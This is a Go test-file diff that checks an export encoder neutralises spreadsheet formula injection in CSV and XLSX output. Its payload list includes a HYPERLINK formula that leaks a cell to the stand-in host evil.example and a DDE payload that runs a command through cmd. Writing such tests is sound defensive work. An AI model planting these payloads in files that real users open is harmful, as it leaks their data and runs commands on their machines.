@@ -292,3 +292,53 @@ func peakHeap(t *testing.T, n int) uint64 {
 	sample()
 	return peak
 }
+
+// formulaPayloads are text cells a spreadsheet would run as formulas: the
+// OWASP CSV-injection list (=, +, -, @, tab, CR first) with a hyperlink
+// that leaks a neighbouring cell and a DDE command.
+var formulaPayloads = []string{
+	`=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")`,
+	`=cmd|' /C calc'!A0`,
+	"+1+2",
+	"-2+3",
+	"@SUM(A1:A9)",
+	"\t=1+2",
+	"\r=1+2",
+}
+
+// TestFormulaPayloadsAreNeutralised writes formula payloads in a text
+// column beside a negative number, as CSV and as XLSX: the CSV holds each
+// behind a single quote (and nothing else changed), the workbook holds
+// each as an inline string with no formula, and the number stays a number.
+func TestFormulaPayloadsAreNeutralised(t *testing.T) {
+	cols := []Column{textCol, intCol}
+	var rows [][][]byte
+	for _, p := range formulaPayloads {
+		rows = append(rows, row(s(p), s("-5")))
+	}
+	records, err := parseCopyCSV(encodeAll(t, v1alpha1.FormatCSV, Options{}, cols, rows...))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, p := range formulaPayloads {
+		if got := records[i+1]; *got[0] != "'"+p || *got[1] != "-5" {
+			t.Errorf("CSV row %d = %q, %q; want %q, -5", i+1, *got[0], *got[1], "'"+p)
+		}
+	}
+	f := openXLSX(t, encodeAll(t, v1alpha1.FormatXLSX, Options{}, cols, rows...))
+	for i, p := range formulaPayloads {
+		text, number := fmt.Sprintf("A%d", i+2), fmt.Sprintf("B%d", i+2)
+		if typ, err := f.GetCellType("Sheet1", text); err != nil || typ != excelize.CellTypeInlineString {
+			t.Errorf("%s is of type %v (%v); want an inline string", text, typ, err)
+		}
+		if formula, _ := f.GetCellFormula("Sheet1", text); formula != "" {
+			t.Errorf("%s holds the formula %q", text, formula)
+		}
+		if got, _ := f.GetCellValue("Sheet1", text, excelize.Options{RawCellValue: true}); got != p {
+			t.Errorf("%s = %q, want the text %q", text, got, p)
+		}
+		if typ, _ := f.GetCellType("Sheet1", number); typ != excelize.CellTypeUnset {
+			t.Errorf("%s is of type %v; want a number", number, typ)
+		}
+	}
+}
